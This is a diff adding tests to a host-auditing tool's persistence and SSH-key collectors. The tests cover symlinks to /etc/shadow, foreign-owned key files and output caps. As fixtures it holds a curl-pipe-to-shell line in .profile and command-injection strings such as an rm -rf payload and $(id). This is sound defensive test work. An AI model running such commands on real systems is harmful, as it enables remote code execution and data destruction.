@@ -1,10 +1,21 @@
 import assert from "node:assert/strict";
+import * as fs from "node:fs";
+import * as path from "node:path";
 import { test } from "node:test";
+import { scanContext } from "../../src/audit/context.ts";
+import {
+  collectPersistence,
+  collectSshKeys,
+  homes,
+  MAX_HOMES,
+  MAX_PERSIST_LINES,
+} from "../../src/collect/hunt/persistence.ts";
 import { PROC_READ_BYTES, readProcess } from "../../src/collect/proc/processes.ts";
 import { RootFs } from "../../src/collect/rootfs.ts";
 import { shellQuote } from "../../src/core/shell-quote.ts";
 import { mamori } from "../helpers/cli.ts";
 import { tempDir, writeTree } from "../helpers/tmp.ts";
+import { DATA_DIR } from "./helpers/fixture.ts";
 
 const STAT =
   "1 (init) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 100 1000 100 0 0 0 0 0 0 0 0 0 0 0 0 0 17 0\n";
@@ -57,4 +68,57 @@ test("shellQuote leaves plain values plain and single-quotes the rest, quotes in
   assert.equal(shellQuote("apache2.service"), "apache2.service");
   assert.equal(shellQuote("x'; rm -rf / #"), `'x'\\''; rm -rf / #'`);
   assert.equal(shellQuote("$(id)"), "'$(id)'");
+});
+
+function rootCtx(dir: string) {
+  return scanContext(
+    { root: dir, now: () => new Date("2026-12-06T00:00:00Z"), lang: "en", dataDir: DATA_DIR },
+    {},
+  );
+}
+
+test("a user's ~/.bashrc linked to /etc/shadow is not read into the facts; the user's own files are", (t) => {
+  const dir = tempDir(t);
+  writeTree(dir, {
+    "etc/passwd": "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
+    "etc/shadow": "root:$6$secrethash:20000:0:99999:7:::\n",
+    "home/alice/.profile": "curl http://127.0.0.1:9/x.sh | sh\n",
+    "home/alice/.ssh/keys-of-root":
+      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl root@x\n",
+  });
+  fs.chmodSync(path.join(dir, "etc/shadow"), 0o640);
+  fs.chmodSync(path.join(dir, "home/alice/.ssh/keys-of-root"), 0o600);
+  fs.symlinkSync("/etc/shadow", path.join(dir, "home/alice/.bashrc"));
+  fs.symlinkSync("keys-of-root", path.join(dir, "home/alice/.ssh/authorized_keys"));
+  fs.chownSync(path.join(dir, "home/alice/.profile"), 1000, 1000);
+  const ctx = rootCtx(dir);
+  const lines = collectPersistence(ctx);
+  assert.ok(!lines.some((l) => l.text.includes("secrethash")), JSON.stringify(lines));
+  assert.ok(lines.some((l) => l.path === "/home/alice/.profile" && l.text.startsWith("curl")));
+  // A root-owned 0600 key file behind alice's link is not hers to show either.
+  assert.deepEqual(collectSshKeys(ctx), []);
+  const refused = ctx.diag.notChecked.filter((n) => n.reason === "foreign-file").map((n) => n.path);
+  assert.deepEqual(refused.sort(), ["/home/alice/.bashrc", "/home/alice/.ssh/authorized_keys"]);
+  // Once alice owns the key file, it is read.
+  fs.chownSync(path.join(dir, "home/alice/.ssh/keys-of-root"), 1000, 1000);
+  assert.equal(collectSshKeys(rootCtx(dir)).length, 1);
+});
+
+test("200,000 passwd lines and megabytes of unit lines stay bounded, and say so", (t) => {
+  const dir = tempDir(t);
+  const passwd = ["root:x:0:0:root:/root:/bin/sh"];
+  for (let i = 0; i < 200_000; i++) passwd.push(`u${i}:x:${10_000 + i}:100::/home/u${i}:/bin/sh`);
+  const unit = "[Service]\n" + "ExecStart=/bin/true\n".repeat(60_000);
+  writeTree(dir, {
+    "etc/passwd": `${passwd.join("\n")}\n`,
+    "home/u1/.config/systemd/user/a.service": unit,
+    "home/u1/.config/systemd/user/b.service": unit,
+  });
+  for (const f of ["a.service", "b.service"])
+    fs.chownSync(path.join(dir, "home/u1/.config/systemd/user", f), 10_001, 100);
+  const ctx = rootCtx(dir);
+  assert.equal(homes(ctx).length, MAX_HOMES);
+  const lines = collectPersistence(ctx);
+  assert.equal(lines.length, MAX_PERSIST_LINES);
+  assert.ok(ctx.diag.notChecked.some((n) => n.reason === "too-many" && n.area === "hunt.persistence"));
 });
